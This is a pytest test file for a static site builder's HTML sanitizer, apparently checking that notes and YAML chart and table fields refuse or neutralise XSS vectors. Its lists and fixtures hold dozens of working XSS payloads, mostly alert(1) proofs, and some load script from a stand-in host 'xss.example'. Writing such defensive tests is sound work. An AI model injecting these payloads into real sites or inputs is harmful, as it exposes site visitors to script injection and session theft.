"""A corpus of known script vectors (after the OWASP XSS filter-evasion cheat sheet) against every place
text reaches a page. Each vector is either refused, naming file, line and field, or provably neutralised:
the built page, parsed as a browser parses it, has no live script vector left."""

from __future__ import annotations

import re
from pathlib import Path

import html5lib
import pytest

from landscape.config import SiteConfig
from landscape import pipeline, safety
from landscape.notes import Layer

LAYERS = [Layer(i, i.title(), "") for i in ("compute", "data", "algorithms", "systems", "products")]

# Vectors a note may not hold: each must be refused with the note's file and the vector's line.
REFUSED = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror\t=alert(1)>",
    "<a href=\"&#x20;javascript:alert(1)\">x</a>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "[x](javascript:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
    "<div style=\"behavior: url(xss.htc)\">x</div>",
    "<div style=\"xss:expr/*XSS*/ession(alert(1))\">x</div>",
    "<span style=\"-moz-binding:url(https://xss.example/x.xml#xss)\">x</span>",
    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<input type=\"image\" src=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss onafterscriptexecute=alert(1)>x</xss>",
    # a backslash does not escape "<" in Python-Markdown: the tag is live
    "\\<img src=x onerror=alert(1)>",
    "A paragraph with an attribute list.\n{: onclick=\"alert(1)\" }",
    "<div class=\"lc-chart__view\" data-lc-spec=\"x.json\" data-lc-bundle=\"https://xss.example/x.js\"></div>",
    "<a data-href=\"javascript:alert(1)\">x</a>",
]

# Vectors Markdown itself neutralises (escaped, in code, or parsed into plain text): they build, and
# the page they reach has no live script vector.
NEUTRAL = [
    "`<script>alert(1)</script>`",
    "```\n<img src=x onerror=alert(1)>\n```",
    "    <svg onload=alert(1)>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](https://example.org/?q=javascript:alert(1))",
    # unquoted, the value runs to the next space: src="x/onerror=alert(1)", no handler
    "<img/src=x/onerror=alert(1)>",
    # Python-Markdown does not take "<img/" for a tag and escapes the whole of it
    "<img/src=\"x\"/onerror=alert(1)>",
    # Markdown expands the tab to spaces: "jav    ascript:" is no scheme, a relative link
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    # Markdown makes the backticks a code span: the href is no URL
    "<a href=`javascript:alert(1)`>x</a>",
    # an attribute list inside raw HTML is text
    "<p>Text {: onclick=\"alert(1)\" }</p>",
]

SAFE = "A paragraph with <abbr title=\"floating-point operations\">FLOP</abbr>, <mark>marked</mark> and <sup>2</sup>."


def _note(kb, slug: str, vector: str) -> tuple[Path, int]:
    """A note whose body is a safe paragraph then the vector; returns its path and the vector's line."""
    path = kb.note("compute", slug, f"Note {slug}", body=f"{SAFE}\n\n{vector}\n\nClosing paragraph.\n")
    lines = path.read_text(encoding="utf-8").splitlines()
    return path, lines.index(vector.splitlines()[0]) + 1


def test_the_corpus_is_large_enough():
    assert len(REFUSED) + len(NEUTRAL) >= 60
    assert len(set(REFUSED)) == len(REFUSED)


def test_every_refused_vector_names_file_line_and_field(kb):
    where = {}
    for index, vector in enumerate(REFUSED):
        path, line = _note(kb, f"v{index:02d}", vector)
        where[index] = (path.relative_to(kb.root).as_posix(), line)
    kb.note("compute", "clean", "Clean note", body=SAFE + "\n")
    found = [str(p) for p in pipeline.check(kb.root, SiteConfig.of_layers(LAYERS)).problems]
    missed = []
    for index, (relative, line) in where.items():
        if not any(f"{relative}:{line}: html: " in p for p in found):
            missed.append((REFUSED[index], [p for p in found if relative in p]))
    assert missed == [], missed
    assert not any("clean.md" in p for p in found), found


def test_the_build_refuses_them_and_writes_no_page(kb, tmp_path):
    for index, vector in enumerate(REFUSED[::7]):
        _note(kb, f"v{index:02d}", vector)
    result = kb.build(tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in output
    for index in range(len(REFUSED[::7])):
        assert re.search(rf"notes/compute/v{index:02d}\.md:\d+: html: ", output), (index, output[-3000:])
    assert not (tmp_path / "site" / "compute").exists()


def live_vectors(page: str) -> list[str]:
    """Script vectors a browser would act on in a built page, outside the theme's own scripts."""
    document = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    found = []
    article = document.find(".//article")
    assert article is not None
    for element in article.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in ("script", "iframe", "object", "embed", "base", "meta", "link", "style", "form", "foreignobject", "animate", "set"):
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            local = name.rsplit("}", 1)[-1].lower()
            if local.startswith("on") or local == "srcdoc" or local == "formaction":
                found.append(f"{tag} {local}=")
            if safety.url_scheme(value) in ("javascript", "vbscript", "data"):
                found.append(f"{tag} {local}={value!r}")
            if local == "style" and re.search(r"expression|url\(|behavior|binding", value, re.I):
                found.append(f"{tag} style={value!r}")
    return found


def test_neutralised_vectors_build_and_leave_nothing_live(kb, tmp_path):
    for index, vector in enumerate(NEUTRAL):
        _note(kb, f"n{index:02d}", vector)
    result = kb.build(tmp_path / "site")
    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    for index, vector in enumerate(NEUTRAL):
        page = (tmp_path / "site" / "compute" / f"n{index:02d}" / "index.html").read_text(encoding="utf-8")
        assert live_vectors(page) == [], (vector, live_vectors(page))
    code = (tmp_path / "site" / "compute" / "n00" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in code  # shown as text, as written


def test_the_checker_agrees_with_the_browser_parse_of_each_vector():
    """Each refused vector, rendered, is on the wrong side of the allow-list; each neutral one is not."""
    render = safety.renderer()
    for vector in REFUSED:
        assert safety.scan(render(vector)), vector
    for vector in NEUTRAL:
        assert not safety.scan(render(vector)), vector


# ------------------------------------------------------------------------------------- YAML text


DATASET = """\
id: things
title: Things
description: One row per thing. <img src=x onerror=alert(1)>
licence: CC BY 4.0
credit: "[Someone](javascript:alert(1))"
sources:
  s1: {title: "<svg onload=alert(1)>", url: "https://example.org/s"}
columns:
  - {name: name, type: string, description: "<a href='jav&#x09;ascript:alert(1)'>Name</a>"}
  - {name: value, type: number, unit: FLOP, description: Value}
rows:
  - {name: a, value: 1e3, source: s1}
  - {name: b, value: 2e3, source: s1}
"""

CHART = """\
id: evil-chart
title: A chart <script>alert(1)</script>
caption: "What a reader sees <iframe srcdoc='x'></iframe>"
alt: A description for screen readers.
x: {title: Name, type: nominal}
y: {title: "<img src=x onerror=alert(1)>", type: quantitative}
layers:
  - {dataset: clean, mark: bar, x: name, y: value, label: "<b onmouseover=alert(1)>b</b>"}
"""

TABLE = """\
id: evil-table
title: A table
description: What is computed.
notes: "Caveat: <a href=\\"data:text/html,<script>alert(1)</script>\\">here</a>"
sources:
  s1: {title: A source, url: "https://example.org/s"}
inputs:
  - {name: compute, label: "<img src=x onerror=alert(2)>", value: 1e20, unit: FLOP, source: s1}
outputs:
  - {name: out, label: Out, formula: "compute * 2", unit: FLOP, digits: 3}
"""


def test_text_fields_of_datasets_charts_and_tables_are_checked_at_their_line(kb):
    kb.write("charts/data/things.yaml", DATASET)
    kb.write("charts/data/clean.yaml", DATASET.replace("id: things", "id: clean").split("description:")[0]
             + "description: Clean.\nlicence: CC BY 4.0\ncredit: Someone\nsources:\n  s1: {title: A source, url: \"https://example.org/s\"}\n"
             + "columns:\n  - {name: name, type: string, description: Name}\n  - {name: value, type: number, unit: FLOP, description: Value}\n"
             + "rows:\n  - {name: a, value: 1e3, source: s1}\n")
    kb.write("charts/evil-chart.yaml", CHART)
    kb.write("charts/tables/evil-table.yaml", TABLE)
    kb.note("compute", "front", "Front <img src=x onerror=alert(1)>", summary="A summary <svg onload=alert(1)>.")
    found = [str(p) for p in pipeline.check(kb.root, SiteConfig.of_layers(LAYERS)).problems]
    expected = [
        "charts/data/things.yaml:3: description: event-handler attribute onerror=",
        "charts/data/things.yaml:5: credit: javascript: URLs are not allowed",
        "charts/data/things.yaml:7: sources.s1.title: event-handler attribute onload=",
        "charts/data/things.yaml:9: columns[0].description: javascript: URLs are not allowed",
        "charts/evil-chart.yaml:2: title: HTML element <script> is not allowed",
        "charts/evil-chart.yaml:3: caption: HTML element <iframe> is not allowed",
        "charts/evil-chart.yaml:6: y.title: event-handler attribute onerror=",
        "charts/evil-chart.yaml:8: layers[0].label: event-handler attribute onmouseover=",
        "charts/tables/evil-table.yaml:4: notes: data: URLs are not allowed",
        "charts/tables/evil-table.yaml:8: inputs[0].label: event-handler attribute onerror=",
        "notes/compute/front.md:2: title: event-handler attribute onerror=",
        "notes/compute/front.md:3: summary: event-handler attribute onload=",
    ]
    for item in expected:
        assert any(item in p for p in found), (item, found)
    assert not any("clean.yaml" in p for p in found), found


def test_a_dataset_description_with_an_image_handler_fails_the_build(kb, tmp_path):
    kb.write("charts/data/things.yaml", DATASET)
    result = kb.build(tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in output
    assert "charts/data/things.yaml:3: description: event-handler attribute onerror= is not allowed" in output
    assert not (tmp_path / "site" / "datasets").exists()


def test_the_page_check_covers_hand_written_pages(kb, tmp_path):
    kb.write("docs/extra.md", "# Extra\n\nText.\n\n<p><img src=x onerror=alert(1)></p>\n")
    config = (kb.root / "mkdocs.yml").read_text(encoding="utf-8").replace("  - Tags: tags.md\n", "  - Tags: tags.md\n  - Extra: extra.md\n")
    (kb.root / "mkdocs.yml").write_text(config, encoding="utf-8")
    result = kb.build(tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in output
    assert re.search(r"docs/extra\.md: html: event-handler attribute onerror= is not allowed", output), output[-2000:]


def test_titles_and_summaries_reach_the_theme_escaped(kb, tmp_path):
    kb.note("compute", "quoted", 'Compute "doubles" <2x & cheap', summary='A "quoted" summary with a < sign and &.')
    result = kb.build(tmp_path / "site")
    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    page = (tmp_path / "site" / "compute" / "quoted" / "index.html").read_text(encoding="utf-8")
    assert '<meta name="description" content="A &quot;quoted&quot; summary with a &lt; sign and &amp;.">' in page
    assert "<2x" not in page
    document = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    assert document.find(".//title").text.startswith('Compute "doubles" <2x & cheap')
    header = document.find(".//header").itertext()
    assert 'Compute "doubles" <2x & cheap' in " ".join(" ".join(header).split())


def test_imported_notes_have_every_vector_escaped_so_it_shows_as_text():
    """The importer judges each imported line on its rendered HTML, as the build does, and escapes it."""
    from landscape.importer import neutralise

    render = safety.renderer()
    for vector in REFUSED:
        text, notes = neutralise(vector + "\n")
        assert not safety.scan(render(text)), (vector, text)
        assert any("unsafe HTML escaped" in note for note in notes), (vector, notes)
